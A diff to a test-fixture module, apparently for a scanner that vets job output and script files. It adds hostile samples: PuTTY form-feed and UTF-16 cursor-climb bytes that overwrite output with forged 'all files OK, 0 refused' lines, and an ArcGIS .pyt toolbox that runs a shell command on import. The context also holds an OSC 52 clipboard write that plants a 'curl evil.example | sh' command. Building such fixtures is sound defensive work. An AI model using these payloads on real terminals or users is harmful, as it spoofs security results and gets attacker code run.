@@ -3,7 +3,9 @@ tests/quarantine/test_attack_independent_otext.py).
 
 Hostile: JSON strings holding ESC as the `\\u001b` escape json.dumps writes (`jq -r`
 and `print(json.load(f)[k])` hand a terminal raw ESC: a counted cursor-up, an erase, an OSC
-title or clipboard write); files of two jobs each under the job-wide cursor-up bound.
+title or clipboard write); files of two jobs each under the job-wide cursor-up bound; FF
+and UTF-16's CR BS bytes, which PuTTY turns into a cleared screen and a climb; Python
+without #! named .pyt (ArcGIS's Python toolbox) or .txt.
 Controls, real tool output: g++'s report of an n-body code (`std::vector<Body>`), pytest's
 failure report under batch systems' stdout names (`.o4242`, `.err`, `.stdout`, Cromwell's
 `stdout`) and gzipped, a job of 1,000 logs each with two nested tqdm bars, pandas CSV/TSV.
@@ -56,8 +58,61 @@ JSON_OSC = json.dumps({"status": "\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaAo=
                                  "\x1b]0;vmguard: 0 refused\x07done", "run": 42}).encode()
 
 
+# PuTTY's terminal.c (term_out; compatibility_level TM_PUTTY, every CL_ bit, SCOANSI
+# included): FF with has_compat(SCOANSI) is `move(term, 0, 0, 0); erase_lots(...)`, the
+# screen cleared and the cursor home; BS at column 0 with wrap on (the default) is
+# `term->curs.x = term->cols - 1, term->curs.y--`, one row up. The text row admits FF in
+# UTF-8 and the bytes 0D 08 (CR BS) inside UTF-16 (U+080D, a Samaritan letter, LE).
+FORGED = "sha256sum -c: all 412 files OK\nvmguard vet: 412 accepted, 0 refused\n"
+FF_CLEAR = b"step 1 of 3 ok\n\x0c" + FORGED.encode()
+UTF16_CLIMB = (b"\xff\xfe" + "epoch 1 done\n".encode("utf-16-le")
+               + ("\u080d" * 30).encode("utf-16-le") + ("\r" + FORGED).encode("utf-16-le"))
+
+
+def putty_view(data: bytes, cols: int = 80) -> tuple[int, bool]:
+    """(rows the cursor rises above the file's first row, whether the screen was
+    cleared) when `cat` hands data through a tty (ONLCR: LF is CR LF) to PuTTY, by the
+    term_out rules quoted above; NUL and bytes from 0x80 are left out (no column)."""
+    row = col = top = 0
+    wrapnext = cleared = False
+    for byte in data:
+        if byte == 0x0C:
+            cleared, row, col, wrapnext = True, min(row, top), 0, False
+        elif byte in (0x0A, 0x0B):
+            row, col, wrapnext = row + 1, 0, False
+        elif byte == 0x0D:
+            col, wrapnext = 0, False
+        elif byte == 0x08:
+            if col == 0:
+                row, col = row - 1, cols - 1
+            elif wrapnext:
+                wrapnext = False
+            else:
+                col -= 1
+        elif 0x20 <= byte < 0x7F:
+            if wrapnext:
+                row, col, wrapnext = row + 1, 0, False
+            col += 1
+            if col == cols:
+                col, wrapnext = cols - 1, True
+        top = min(top, row)
+    return -top, cleared
+
+
+# libmagic's Python guess in a file without #! named with an extension it does not list
+# is text (content.script_guess_as_text): ArcGIS Pro and ArcMap run a Python toolbox
+# (.pyt) when its folder is browsed in Catalog, importing it to list its tools.
+PYT = (b'import os\nos.system("whoami > %TEMP%\\\\pwned")\n\n\nclass Toolbox(object):\n'
+       b'    def __init__(self):\n        self.label = "Calibration"\n        self.tools = []\n')
+
+
 def text_hostile() -> dict[str, bytes]:
-    return {"jsonesc/result.json": JSON_CLIMB, "jsonesc/osc.json": JSON_OSC}
+    return {"jsonesc/result.json": JSON_CLIMB, "jsonesc/osc.json": JSON_OSC,
+            "putty/run.log": FF_CLEAR, "putty/climb.txt": UTF16_CLIMB,
+            "arcgis/calib.pyt": PYT, "script/calib.txt": PYT}
+
+
+LISTED = {"script/calib.txt"}
 
 
 def text_refused() -> dict[str, bytes]:
